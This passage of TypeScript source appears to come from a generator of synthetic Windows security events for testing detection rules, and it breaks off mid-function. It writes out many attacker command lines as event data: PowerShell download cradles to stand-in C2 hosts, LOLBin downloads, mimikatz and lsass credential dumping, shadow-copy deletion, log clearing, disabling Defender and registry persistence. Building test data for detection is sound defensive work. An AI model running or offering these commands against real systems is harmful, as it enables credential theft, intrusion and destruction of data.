/**
 * Attack-like events: single events carrying the values an intruder's tooling and tradecraft produce (download
 * cradles, LOLBin abuse, credential dumping, persistence, defence evasion, discovery). They are written from the
 * behaviour, not from rule text, and are meant to trigger common SigmaHQ detections the way real intrusions do.
 * Each is labelled with a technique id (the `attack` field of the canonical event, optionally written as labels).
 */

import { BINARY_BY_KEY, DOMAIN, type BinaryDef } from './catalog.js';
import { Fleet, encodePowerShell, hex0x, type Account, type Host, type Proc } from './fleet.js';
import { Weighted } from './prng.js';
import type { CanonicalEvent } from './shapes.js';

type Builder = (f: Fleet) => CanonicalEvent;

const C2_DOMAINS = [
  'cdn-update-service.top', 'msoffice-cloud.live', 'secure-docs-share.xyz', 'telemetry-sync.net', 'img-static-cache.info',
  'login-microsoftonline.support', 'windows-defender-update.club', 'fastfilecdn.ru',
];
const PAYLOAD_NAMES = ['update.exe', 'svchost32.exe', 'WinSvc.exe', 'chrome_update.exe', 'Rechnung_2025.pdf.exe', 'OneDriveSync.exe', 'runtime.exe', 'msupd.exe'];
const DLL_NAMES = ['mx32.dll', 'helper.dll', 'libcurl.dat', 'update.ocx', 'invoice.dll', 'wsc.dat', 'cache.tmp'];
const TASK_NAMES = ['OneDriveUpdateCheck', 'MicrosoftEdgeUpdateTaskCore2', 'Windows Defender Scan Helper', 'SystemHealthMonitor', 'GoogleUpdaterTask{n3}'];
const RUN_NAMES = ['WindowsUpdate', 'OneDriveSync', 'Realtek HD Audio', 'SecurityHealthHelper', 'AdobeUpdater'];

function c2(f: Fleet): string {
  const r = f.rng;
  return `${r.pick(['cdn', 'api', 'static', 'files', 'dl', 'update'])}${r.chance(0.5) ? `-${r.hex(4, true)}` : ''}.${r.pick(C2_DOMAINS)}`;
}

function publicIp(f: Fleet): string {
  const r = f.rng;
  return `${r.pick([5, 45, 62, 77, 91, 103, 139, 146, 176, 185, 193, 194])}.${r.int(256)}.${r.int(256)}.${1 + r.int(253)}`;
}

function url(f: Fleet, ext: string): string {
  const r = f.rng;
  const host = r.chance(0.5) ? publicIp(f) : c2(f);
  const port = r.chance(0.3) ? `:${r.pick([8080, 8443, 4443, 80])}` : '';
  return `${r.chance(0.7) ? 'http' : 'https'}://${host}${port}/${r.pick(['', 'static/', 'dl/', 'wp-content/uploads/'])}${r.hex(6, true)}${ext}`;
}

/** A staging directory the way intruders pick them. */
function stage(f: Fleet, a: Account): string {
  return f.rng.pick([
    'C:\\Users\\Public', 'C:\\ProgramData', 'C:\\Windows\\Temp', `${a.profile}\\AppData\\Local\\Temp`,
    `${a.profile}\\AppData\\Roaming`, 'C:\\PerfLogs', `${a.profile}\\Downloads`,
  ]);
}

function target(f: Fleet): { host: Host; account: Account } {
  const host = f.rng.chance(0.85) ? f.pickWorkstation() : f.pickHost();
  return { host, account: host.user };
}

function bin(key: string): BinaryDef {
  return BINARY_BY_KEY.get(key)!;
}

/** A system binary not in the benign catalogue (a LOLBin): its process identity. */
function lolbin(path: string, originalFileName: string, description: string): BinaryDef {
  return {
    ...bin('cmd'),
    key: `lolbin:${originalFileName.toLowerCase()}`,
    path,
    originalFileName,
    description,
    commands: [],
    parents: ['cmd'],
  };
}

const LOLBINS = {
  certutil: lolbin('C:\\Windows\\System32\\certutil.exe', 'CertUtil.exe', 'CertUtil.exe'),
  bitsadmin: lolbin('C:\\Windows\\System32\\bitsadmin.exe', 'bitsadmin.exe', 'BITS administration utility'),
  regsvr32: lolbin('C:\\Windows\\System32\\regsvr32.exe', 'REGSVR32.EXE', 'Microsoft(C) Register Server'),
  mshta: lolbin('C:\\Windows\\System32\\mshta.exe', 'MSHTA.EXE', 'Microsoft (R) HTML Application host'),
  vssadmin: lolbin('C:\\Windows\\System32\\vssadmin.exe', 'VSSADMIN.EXE', 'Command Line Interface for Microsoft® Volume Shadow Copy Service '),
  wmic: lolbin('C:\\Windows\\System32\\wbem\\WMIC.exe', 'wmic.exe', 'WMI Commandline Utility'),
  reg: lolbin('C:\\Windows\\System32\\reg.exe', 'reg.exe', 'Registry Console Tool'),
  net: lolbin('C:\\Windows\\System32\\net.exe', 'net.exe', 'Net Command'),
  net1: lolbin('C:\\Windows\\System32\\net1.exe', 'net1.exe', 'Net Command'),
  schtasks: lolbin('C:\\Windows\\System32\\schtasks.exe', 'schtasks.exe', 'Task Scheduler Configuration Tool'),
  wevtutil: lolbin('C:\\Windows\\System32\\wevtutil.exe', 'wevtutil.exe', 'Eventing Command Line Utility'),
  bcdedit: lolbin('C:\\Windows\\System32\\bcdedit.exe', 'bcdedit.exe', 'Boot Configuration Data Editor'),
  whoami: lolbin('C:\\Windows\\System32\\whoami.exe', 'whoami.exe', 'whoami - displays logged on user information'),
  ntdsutil: lolbin('C:\\Windows\\System32\\ntdsutil.exe', 'ntdsutil.exe', 'NT5DS'),
  nltest: lolbin('C:\\Windows\\System32\\nltest.exe', 'nltestrk.exe', 'Microsoft® Logon Server Test Utility'),
  curl: lolbin('C:\\Windows\\System32\\curl.exe', 'curl.exe', 'The curl executable'),
  wscript: lolbin('C:\\Windows\\System32\\wscript.exe', 'wscript.exe', 'Microsoft ® Windows Based Script Host'),
};

interface Spawn {
  image: string;
  cmd: string;
  meta: Partial<BinaryDef>;
  parent: Proc;
  account?: Account;
  integrity?: string;
  hashes?: string;
  binary: BinaryDef;
}

/** A process creation for an attack: Sysmon 1 (four times in five) or Security 4688. */
function spawn(f: Fleet, host: Host, s: Spawn, label: string): CanonicalEvent {
  const p = f.newProc(host, s.binary, {
    parent: s.parent,
    account: s.account,
    image: s.image,
    commandLine: s.cmd,
    integrity: s.integrity,
    hashes: s.hashes,
  });
  return f.rng.chance(0.8) ? f.processCreate(p, label, s.meta) : f.processCreate4688(p, label);
}

function randomHashes(f: Fleet, host: Host): string {
  const r = f.rng;
  return host.hashAll
    ? `SHA1=${r.hex(40)},MD5=${r.hex(32)},SHA256=${r.hex(64)},IMPHASH=${r.hex(32)}`
    : `MD5=${r.hex(32)},SHA256=${r.hex(64)},IMPHASH=${r.hex(32)}`;
}

/** A process creation of a LOLBin with the given command line, from a plausible attacker parent. */
function lol(f: Fleet, label: string, b: BinaryDef, cmd: (host: Host, a: Account) => string, parents = ['cmd', 'powershell', 'explorer', 'winword', 'wscript']): CanonicalEvent {
  const { host, account } = target(f);
  const parentKey = f.rng.pick(parents);
  const parent = parentKey === 'wscript' ? wscriptParent(f, host, account) : f.live(host, parentKey);
  const a = parent.account?.domain === DOMAIN ? parent.account : account;
  return spawn(f, host, { binary: b, image: b.path, cmd: cmd(host, a), meta: {}, parent, account: a }, label);
}

function wscriptParent(f: Fleet, host: Host, a: Account): Proc {
  const b = LOLBINS.wscript;
  return f.newProc(host, b, {
    parent: f.live(host, 'explorer'),
    account: a,
    image: b.path,
    commandLine: `"C:\\Windows\\System32\\WScript.exe" "${a.profile}\\Downloads\\${f.rng.pick(['Invoice', 'Scan', 'Order', 'Lieferschein'])}_${f.digits(5)}.js"`,
  });
}

function ps(f: Fleet, host: Host, a: Account, label: string, args: string, parentKey?: string): CanonicalEvent {
  const parent = parentKey === 'wscript' ? wscriptParent(f, host, a) : f.live(host, parentKey ?? f.rng.pick(['cmd', 'winword', 'excel', 'explorer', 'wmiprvse']));
  const b = bin('powershell');
  const exe = f.rng.chance(0.7) ? 'powershell.exe' : '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"';
  return spawn(f, host, { binary: b, image: b.path, cmd: `${exe} ${args}`, meta: {}, parent, account: a }, label);
}

function cradle(f: Fleet): string {
  const r = f.rng;
  const u = url(f, r.pick(['.ps1', '', '.txt', '/a']));
  return r.pick([
    `IEX (New-Object Net.WebClient).DownloadString('${u}')`,
    `iex(iwr -UseBasicParsing '${u}')`,
    `$w=New-Object System.Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString("${u}")`,
    `Invoke-Expression (Invoke-WebRequest -Uri '${u}' -UseBasicParsing).Content`,
  ]);
}

const PROCESS_ATTACKS: ReadonlyArray<readonly [string, number, Builder]> = [
  ['T1059.001-encoded-powershell', 6, (f) => {
    const { host, account } = target(f);
    const flag = f.rng.pick(['-enc', '-EncodedCommand', '-e', '-ec', '-En']);
    const pre = f.rng.pick(['-nop -w hidden', '-NoP -NonI -W Hidden -Exec Bypass', '-NoProfile -WindowStyle Hidden', '-ep bypass -noni']);
    return ps(f, host, account, 'T1059.001-encoded-powershell', `${pre} ${flag} ${encodePowerShell(cradle(f))}`);
  }],
  ['T1059.001-download-cradle', 4, (f) => {
    const { host, account } = target(f);
    return ps(f, host, account, 'T1059.001-download-cradle', `-ExecutionPolicy Bypass -NoProfile -Command "${cradle(f).replace(/"/g, '\\"')}"`);
  }],
  ['T1105-certutil-download', 4, (f) =>
    lol(f, 'T1105-certutil-download', LOLBINS.certutil, (h, a) =>
      `certutil.exe ${f.rng.pick(['-urlcache -split -f', '-urlcache -f', '-verifyctl -split -f'])} ${url(f, f.rng.pick(['.txt', '.exe', '.dat']))} ${stage(f, a)}\\${f.rng.pick(PAYLOAD_NAMES)}`)],
  ['T1140-certutil-decode', 2, (f) =>
    lol(f, 'T1140-certutil-decode', LOLBINS.certutil, (h, a) => {
      const dir = stage(f, a);
      return `certutil -decode ${dir}\\${f.rng.hex(6, true)}.txt ${dir}\\${f.rng.pick(DLL_NAMES)}`;
    })],
  ['T1197-bitsadmin-download', 2, (f) =>
    lol(f, 'T1197-bitsadmin-download', LOLBINS.bitsadmin, (h, a) =>
      `bitsadmin /transfer ${f.rng.pick(['myjob', 'update', 'dl'])} /download /priority ${f.rng.pick(['high', 'foreground'])} ${url(f, '.exe')} ${stage(f, a)}\\${f.rng.pick(PAYLOAD_NAMES)}`)],
  ['T1218.011-rundll32-abuse', 4, (f) => {
    const { host, account } = target(f);
    const b = bin('rundll32');
    const cmd = f.rng.pick([
      `rundll32.exe ${stage(f, account)}\\${f.rng.pick(DLL_NAMES)},${f.rng.pick(['DllRegisterServer', '#1', 'Start', 'EntryPoint'])}`,
      `rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:${url(f, '.sct')}")`,
      `"C:\\Windows\\system32\\rundll32.exe" ${stage(f, account)}\\${f.rng.hex(8, true)}.dat,#${1 + f.rng.int(3)}`,
      `rundll32.exe \\\\${publicIp(f)}\\share\\${f.rng.pick(DLL_NAMES)},${f.rng.pick(['DllMain', 'Run'])}`,
    ]);
    return spawn(f, host, { binary: b, image: b.path, cmd, meta: {}, parent: f.live(host, f.rng.pick(['cmd', 'winword', 'explorer', 'powershell'])), account }, 'T1218.011-rundll32-abuse');
  }],
  ['T1218.010-regsvr32-scriptlet', 2, (f) =>
    lol(f, 'T1218.010-regsvr32-scriptlet', LOLBINS.regsvr32, () =>
      `regsvr32.exe /s /n /u /i:${url(f, '.sct')} scrobj.dll`)],
  ['T1218.005-mshta-remote', 2, (f) =>
    lol(f, 'T1218.005-mshta-remote', LOLBINS.mshta, () =>
      f.rng.chance(0.6)
        ? `"C:\\Windows\\System32\\mshta.exe" ${url(f, '.hta')}`
        : `mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -nop -w hidden -c iex(iwr ${url(f, '')})"", 0:close")`,
    ['explorer', 'winword', 'outlook'])],
  ['T1003.001-mimikatz', 3, (f) => {
    const { host, account } = target(f);
    const a = f.admins[f.rng.int(2)];
    const image = `${stage(f, account)}\\${f.rng.pick(['m64.exe', 'mimi.exe', 'x64\\mimikatz.exe', 'kiwi.exe', 'sys.exe'])}`;
    const cmds = f.rng.pick([
      '"privilege::debug" "sekurlsa::logonpasswords" "exit"',
      'privilege::debug token::elevate lsadump::sam exit',
      '"sekurlsa::pth /user:Administrator /domain:CORP /ntlm:' + f.rng.hex(32, true) + ' /run:cmd.exe" exit',
      '"lsadump::dcsync /domain:corp.example.com /user:krbtgt" exit',
      '"kerberos::golden /user:Administrator /domain:corp.example.com /sid:S-1-5-21-3623811015-3361044348-30300820 /krbtgt:' + f.rng.hex(32, true) + ' /ptt" exit',
    ]);
    const b = { ...bin('cmd'), key: 'tool:mimikatz', path: image };
    return spawn(f, host, {
      binary: b, image, cmd: `${image.includes(' ') ? `"${image}"` : image} ${cmds}`,
      meta: { originalFileName: 'mimikatz.exe', description: 'mimikatz for Windows', product: 'mimikatz', company: 'gentilkiwi (Benjamin DELPY)', fileVersion: '2.2.0.0' },
      parent: f.live(host, 'cmd'), account: a, integrity: 'High', hashes: randomHashes(f, host),
    }, 'T1003.001-mimikatz');
  }],
  ['T1490-vssadmin-delete-shadows', 2, (f) =>
    lol(f, 'T1490-vssadmin-delete-shadows', LOLBINS.vssadmin, () =>
      f.rng.pick(['vssadmin.exe delete shadows /all /quiet', 'vssadmin  Delete Shadows /All /Quiet', 'vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB']))],
  ['T1490-wmic-shadowcopy-delete', 1.5, (f) =>
    lol(f, 'T1490-wmic-shadowcopy-delete', LOLBINS.wmic, () =>
      f.rng.pick(['wmic shadowcopy delete /nointeractive', 'wmic.exe SHADOWCOPY /nointeractive delete', '"C:\\Windows\\System32\\wbem\\WMIC.exe" shadowcopy where "ID=\'{' + f.rng.guid() + '}\'" delete']))],
  ['T1047-wmic-remote-process', 1, (f) =>
    lol(f, 'T1047-wmic-remote-process', LOLBINS.wmic, () =>
      `wmic /node:${f.rng.pick(['FS01', 'SQL01', '10.10.1.12', 'APP02'])} /user:${DOMAIN}\\adm.jdoe /password:"Winter2025!" process call create "cmd.exe /c ${f.rng.pick(PAYLOAD_NAMES)}"`)],
  ['T1003.001-comsvcs-minidump', 2, (f) => {
    const { host, account } = target(f);
    const b = bin('rundll32');
    const cmd = `${f.rng.pick(['rundll32.exe', '"C:\\Windows\\System32\\rundll32.exe"'])} C:\\Windows\\System32\\comsvcs.dll${f.rng.pick([', ', ',', ' '])}${f.rng.pick(['MiniDump', '#24', 'minidump'])} ${host.lsassPid} ${stage(f, account)}\\${f.rng.pick(['lsass.dmp', 'out.dmp', 'debug.bin'])} full`;
    return spawn(f, host, { binary: b, image: b.path, cmd, meta: {}, parent: f.live(host, 'powershell'), account: f.admins[0], integrity: 'High' }, 'T1003.001-comsvcs-minidump');
  }],
  ['T1003.001-procdump-lsass', 1.5, (f) => {
    const { host, account } = target(f);
    const image = `${stage(f, account)}\\${f.rng.pick(['procdump64.exe', 'procdump.exe', 'pd64.exe'])}`;
    const b = { ...bin('cmd'), key: 'tool:procdump', path: image };
    return spawn(f, host, {
      binary: b, image, cmd: `${image} -accepteula -ma ${f.rng.chance(0.7) ? 'lsass.exe' : String(host.lsassPid)} ${stage(f, account)}\\${f.rng.pick(['ls.dmp', 'lsass_' + f.digits(4) + '.dmp', 'out.dmp'])}`,
      meta: { originalFileName: 'procdump', description: 'Sysinternals process dump utility', product: 'ProcDump', company: 'Sysinternals - www.sysinternals.com', fileVersion: '11.0' },
      parent: f.live(host, 'cmd'), account: f.admins[1], integrity: 'High', hashes: randomHashes(f, host),
    }, 'T1003.001-procdump-lsass');
  }],
  ['T1003.002-reg-save-hive', 2, (f) =>
    lol(f, 'T1003.002-reg-save-hive', LOLBINS.reg, (h, a) =>
      `reg.exe save HKLM\\${f.rng.pick(['SAM', 'SYSTEM', 'SECURITY'])} ${stage(f, a)}\\${f.rng.pick(['sam.hiv', 's.save', 'sys.bak', 'security.save'])}${f.rng.chance(0.5) ? ' /y' : ''}`)],
  ['T1136.001-net-user-add', 2, (f) =>
    f.rng.chance(0.5)
      ? lol(f, 'T1136.001-net-user-add', LOLBINS.net, () => `net user ${f.rng.pick(['helpdesk', 'support_388945a0', 'backup$', 'sqladmin'])} ${f.rng.pick(['P@ssw0rd!', 'Welcome123!', 'Qwerty2025#'])} /add${f.rng.chance(0.5) ? ' /domain' : ''}`)
      : lol(f, 'T1136.001-net-user-add', LOLBINS.net, () => `net localgroup ${f.rng.pick(['administrators', 'Administratoren', '"Remote Desktop Users"'])} ${f.rng.pick(['helpdesk', 'support_388945a0'])} /add`)],
  ['T1053.005-schtasks-create', 3, (f) =>
    lol(f, 'T1053.005-schtasks-create', LOLBINS.schtasks, (h, a) =>
      `schtasks.exe /Create /SC ${f.rng.pick(['ONLOGON', 'MINUTE /MO 30', 'DAILY /ST 09:00', 'ONSTART'])} /TN "${f.expand(f.rng.pick(TASK_NAMES), {})}" /TR "${f.rng.pick([
        `powershell.exe -w hidden -ep bypass -f ${stage(f, a)}\\upd.ps1`,
        `${stage(f, a)}\\${f.rng.pick(PAYLOAD_NAMES)}`,
        `cmd /c start /b ${stage(f, a)}\\${f.rng.hex(6, true)}.bat`,
        `rundll32.exe ${stage(f, a)}\\${f.rng.pick(DLL_NAMES)},Start`,
      ])}" /RU SYSTEM /F`)],
  ['T1566.001-office-spawns-shell', 3, (f) => {
    const { host, account } = target(f);
    const parent = f.live(host, f.rng.pick(['winword', 'excel', 'outlook']));
    const shell = f.rng.chance(0.6) ? bin('cmd') : bin('powershell');
    const cmd = shell.key === 'cmd'
      ? `cmd.exe /c ${f.rng.pick([`powershell -w hidden -c "${cradle(f).replace(/"/g, '\\"')}"`, `certutil -urlcache -f ${url(f, '.exe')} %TEMP%\\a.exe && %TEMP%\\a.exe`, `start /b %APPDATA%\\${f.rng.pick(PAYLOAD_NAMES)}`])}`
      : `powershell.exe -nop -w 1 -c "${cradle(f).replace(/"/g, '\\"')}"`;
    return spawn(f, host, { binary: shell, image: shell.path, cmd, meta: {}, parent, account }, 'T1566.001-office-spawns-shell');
  }],
  ['T1070.001-wevtutil-clear', 1.5, (f) =>
    lol(f, 'T1070.001-wevtutil-clear', LOLBINS.wevtutil, () =>
      `wevtutil${f.rng.chance(0.5) ? '.exe' : ''} ${f.rng.pick(['cl', 'clear-log'])} ${f.rng.pick(['Security', 'System', '"Windows PowerShell"', 'Microsoft-Windows-Sysmon/Operational'])}`)],
  ['T1490-bcdedit-recovery', 1, (f) =>
    lol(f, 'T1490-bcdedit-recovery', LOLBINS.bcdedit, () =>
      f.rng.pick(['bcdedit /set {default} recoveryenabled No', 'bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures']))],
  ['T1562.001-defender-disable-powershell', 2, (f) => {
    const { host } = target(f);
    return ps(f, host, f.admins[0], 'T1562.001-defender-disable-powershell', `-Command "${f.rng.pick([
      'Set-MpPreference -DisableRealtimeMonitoring $true',
      'Add-MpPreference -ExclusionPath \'C:\\Users\\Public\'',
      'Set-MpPreference -DisableIOAVProtection $true -DisableBehaviorMonitoring $true',
      'Add-MpPreference -ExclusionExtension \'.exe\'',
    ])}"`, 'cmd');
  }],
  ['T1505.003-webshell-recon', 1.5, (f) => {
    const host = f.hostByName('WEB01');
    const parent = f.live(host, 'w3wp');
    const shell = bin('cmd');
    const cmd = `cmd.exe /c ${f.rng.pick(['whoami /priv', 'whoami /all', 'net group "domain admins" /domain', 'ipconfig /all', 'systeminfo', 'tasklist /v'])}`;
    return spawn(f, host, { binary: shell, image: shell.path, cmd, meta: {}, parent, account: parent.account ?? Fleet.SYSTEM }, 'T1505.003-webshell-recon');
  }],
  ['T1033-whoami-as-system', 1, (f) => {
    const { host } = target(f);
    const b = LOLBINS.whoami;
    return spawn(f, host, { binary: b, image: b.path, cmd: f.rng.pick(['whoami', 'whoami /priv', 'whoami.exe /all']), meta: {}, parent: f.live(host, 'cmd'), account: Fleet.SYSTEM }, 'T1033-whoami-as-system');
  }],
  ['T1003.003-ntdsutil-ifm', 1, (f) => {
    const host = f.hostByName(f.rng.pick(['DC01', 'DC02']));
    const b = LOLBINS.ntdsutil;
    return spawn(f, host, {
      binary: b, image: b.path, cmd: `ntdsutil.exe "ac i ntds" "ifm" "create full ${f.rng.pick(['c:\\temp\\ntds', 'C:\\ProgramData\\bk', 'C:\\Windows\\Temp\\x'])}" q q`,
      meta: {}, parent: f.live(host, 'cmd'), account: f.admins[0], integrity: 'High',
    }, 'T1003.003-ntdsutil-ifm');
  }],
  ['T1482-nltest-trusts', 1, (f) =>
    lol(f, 'T1482-nltest-trusts', LOLBINS.nltest, () => f.rng.pick(['nltest /domain_trusts /all_trusts', 'nltest.exe /dclist:corp.example.com', 'nltest /domain_trusts']))],
  ['T1105-curl-download', 1.5, (f) =>
    lol(f, 'T1105-curl-download', LOLBINS.curl, (h, a) =>
      `curl.exe ${f.rng.pick(['-o', '--output', '-k -o', '-s -o'])} ${stage(f, a)}\\${f.rng.pick(PAYLOAD_NAMES)} ${url(f, f.rng.pick(['.exe', '.dll', '.zip']))}`)],
  ['T1569.002-psexec', 1, (f) => {
    const { host, account } = target(f);
    const image = `${stage(f, account)}\\${f.rng.pick(['PsExec64.exe', 'psexec.exe', 'PsExec.exe'])}`;
    const b = { ...bin('cmd'), key: 'tool:psexec', path: image };
    return spawn(f, host, {
      binary: b, image, cmd: `${image} -accepteula \\\\${f.rng.pick(['FS01', 'SQL01', 'DC01', 'APP01'])} -s ${f.rng.pick(['cmd.exe', 'powershell.exe -nop', `-c ${f.rng.pick(PAYLOAD_NAMES)}`])}`,
      meta: { originalFileName: 'psexec.c', description: 'Execute processes remotely', product: 'Sysinternals PsExec', company: 'Sysinternals - www.sysinternals.com', fileVersion: '2.43' },
      parent: f.live(host, 'cmd'), account: f.admins[0], integrity: 'High', hashes: randomHashes(f, host),
    }, 'T1569.002-psexec');
  }],
];

// -------------------------------------------------------------------------------------------------------------
// other event types

function lsassAccess(f: Fleet): CanonicalEvent {
  const { host, account } = target(f);
  const lsass = f.live(host, 'lsass');
  const r = f.rng;
  const kind = r.int(4);
  let src: Proc;
  let trace: string;
  if (kind === 0) {
    const image = `${stage(f, account)}\\${r.pick(['m64.exe', 'mimi.exe', 'kiwi.exe'])}`;
    src = f.newProc(host, { ...bin('cmd'), key: 'tool:mimikatz', path: image }, { parent: f.live(host, 'cmd'), account: f.admins[0], image, commandLine: image, integrity: 'High' });
    trace = `C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|${image}+${r.hex(5, true)}|${image}+${r.hex(5, true)}|C:\\Windows\\System32\\KERNEL32.DLL+17614|C:\\Windows\\SYSTEM32\\ntdll.dll+526f1`;
  } else if (kind === 1) {
    src = f.newProc(host, bin('rundll32'), { parent: f.live(host, 'powershell'), account: f.admins[0], commandLine: `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${host.lsassPid} C:\\Windows\\Temp\\out.dmp full`, integrity: 'High' });
    trace = `C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+${r.hex(5, true)}|C:\\Windows\\System32\\rundll32.exe+3bc4|C:\\Windows\\System32\\KERNEL32.DLL+17614`;
  } else if (kind === 2) {
    const image = `${stage(f, account)}\\procdump64.exe`;
    src = f.newProc(host, { ...bin('cmd'), key: 'tool:procdump', path: image }, { parent: f.live(host, 'cmd'), account: f.admins[1], image, commandLine: `${image} -accepteula -ma lsass.exe`, integrity: 'High' });
    trace = `C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\SYSTEM32\\dbghelp.dll+${r.hex(5, true)}|C:\\Windows\\SYSTEM32\\dbgcore.DLL+${r.hex(5, true)}|${image}+${r.hex(5, true)}`;
  } else {
    src = f.live(host, r.pick(['powershell', 'rundll32']));
    trace = `C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(000001${r.hex(9)})`;
  }
  return f.processAccess(src, lsass, r.pick(['0x1010', '0x1410', '0x1fffff', '0x143a', '0x1038', '0x40']), trace, 'T1003.001-lsass-access');
}

function registryPersistence(f: Fleet): CanonicalEvent {
  const { host, account } = target(f);
  const r = f.rng;
  const writer = f.live(host, r.pick(['powershell', 'cmd', 'explorer']));
  const payload = `${stage(f, account)}\\${r.pick(PAYLOAD_NAMES)}`;
  const hive = r.chance(0.6) ? `HKU\\${account.sid}` : 'HKLM';
  const key = `${hive}\\SOFTWARE\\${r.chance(0.2) && hive === 'HKLM' ? 'WOW6432Node\\' : ''}Microsoft\\Windows\\CurrentVersion\\${r.pick(['Run', 'Run', 'RunOnce'])}\\${r.pick(RUN_NAMES)}`;
  const details = r.pick([
    payload,
    `"${payload}" /silent`,
    `powershell.exe -w hidden -nop -enc ${encodePowerShell(cradle(f))}`,
    `rundll32.exe ${stage(f, account)}\\${r.pick(DLL_NAMES)},DllRegisterServer`,
    `mshta.exe ${url(f, '.hta')}`,
  ]);
  return f.registrySet(writer, key, details, 'T1547.001-run-key');
}

const REGISTRY_ATTACKS: ReadonlyArray<readonly [string, number, Builder]> = [
  ['T1547.001-run-key', 4, registryPersistence],
  ['T1546.012-ifeo-debugger', 1.5, (f) => {
    const { host } = target(f);
    const w = f.live(host, f.rng.pick(['cmd', 'powershell']));
    const exe = f.rng.pick(['sethc.exe', 'utilman.exe', 'osk.exe', 'Magnify.exe', 'narrator.exe']);
    return f.registrySet(w, `HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\${exe}\\Debugger`,
      f.rng.pick(['C:\\Windows\\System32\\cmd.exe', 'cmd.exe', `C:\\Users\\Public\\${f.rng.pick(PAYLOAD_NAMES)}`]), 'T1546.012-ifeo-debugger');
  }],
  ['T1562.001-defender-disable-registry', 2, (f) => {
    const { host } = target(f);
    const w = f.live(host, f.rng.pick(['cmd', 'powershell']));
    const [key, val] = f.rng.pick([
      ['HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware', 'DWORD (0x00000001)'],
      ['HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring', 'DWORD (0x00000001)'],
      ['HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableBehaviorMonitoring', 'DWORD (0x00000001)'],
      ['HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users\\Public', 'DWORD (0x00000000)'],
      ['HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Features\\TamperProtection', 'DWORD (0x00000000)'],
    ] as const);
    return f.registrySet(w, key, val, 'T1562.001-defender-disable-registry');
  }],
  ['T1548.002-uac-bypass-registry', 1.5, (f) => {
    const { host, account } = target(f);
    const w = f.live(host, f.rng.pick(['cmd', 'powershell']));
    const cls = f.rng.pick(['ms-settings', 'Folder', 'mscfile', 'exefile']);
    const [key, val] = f.rng.chance(0.7)
      ? [`HKU\\${account.sid}_Classes\\${cls}\\shell\\open\\command\\(Default)`, `${stage(f, account)}\\${f.rng.pick(PAYLOAD_NAMES)}`]
      : [`HKU\\${account.sid}_Classes\\${cls}\\shell\\open\\command\\DelegateExecute`, '(Empty)'];
    return f.registrySet(w, key, val, 'T1548.002-uac-bypass-registry');
  }],
  ['T1112-wdigest-enable', 1, (f) => {
    const { host } = target(f);
    return f.registrySet(f.live(host, 'cmd'), 'HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential', 'DWORD (0x00000001)', 'T1112-wdigest-enable');
  }],
  ['T1543.003-service-imagepath', 1.5, (f) => {
    const { host, account } = target(f);
    const svc = f.rng.pick(['WinUpdSvc', 'MsSecHelper', 'PSEXESVC', 'RemoteSupport', `svc${f.rng.hex(4, true)}`]);
    return f.registrySet(f.live(host, 'services'), `HKLM\\System\\CurrentControlSet\\Services\\${svc}\\ImagePath`,
      f.rng.pick([`${stage(f, account)}\\${f.rng.pick(PAYLOAD_NAMES)}`, `%COMSPEC% /c powershell -nop -w hidden -enc ${encodePowerShell(cradle(f))}`, `cmd.exe /c ${stage(f, account)}\\run.bat`]),
      'T1543.003-service-imagepath');
  }],
  ['T1021.001-rdp-enable', 1, (f) => {
    const { host } = target(f);
    return f.registrySet(f.live(host, f.rng.pick(['cmd', 'powershell'])), 'HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections', 'DWORD (0x00000000)', 'T1021.001-rdp-enable');
  }],
  ['T1070-registry-trace-removal', 1, (f) => {
    const { host, account } = target(f);
    const w = f.live(host, f.rng.pick(['cmd', 'powershell']));
    const [type, key] = f.rng.pick([
      ['DeleteKey', 'HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{2781761E-28E0-4109-99FE-B9D127C57AFE}'],
      ['DeleteValue', `HKU\\${account.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\\MRUList`],
      ['DeleteKey', `HKU\\${account.sid}\\Software\\Microsoft\\Terminal Server Client\\Default`],
      ['DeleteKey', `HKU\\${account.sid}\\Software\\Microsoft\\Terminal Server Client\\Servers\\10.10.1.${10 + f.rng.int(10)}`],
    ] as const);
    return f.registryKey(w, type, key, 'T1070-registry-trace-removal');
  }],
];

const SUSPICIOUS_DOMAINS = [
  'pastebin.com', 'paste.ee', 'transfer.sh', 'api.ipify.org', 'ipinfo.io', 'checkip.amazonaws.com', 'icanhazip.com',
  'raw.githubusercontent.com', 'mega.nz', 'anonfiles.com', 'ufile.io', 'gofile.io', 'file.io', 'temp.sh',
  '{lower8}.ngrok-free.app', '{lower6}-{lower4}.trycloudflare.com', 'ghostbin.co', 'hastebin.com', 'api.telegram.org',
  'discord.com', 'cdn.discordapp.com', '{lower16}.onion',
];

function suspiciousDns(f: Fleet): CanonicalEvent {
  const { host, account } = target(f);
  const r = f.rng;
  const name = f.expand(r.pick(SUSPICIOUS_DOMAINS), {});
  const p = r.chance(0.6)
    ? f.live(host, r.pick(['powershell', 'rundll32', 'cmd']))
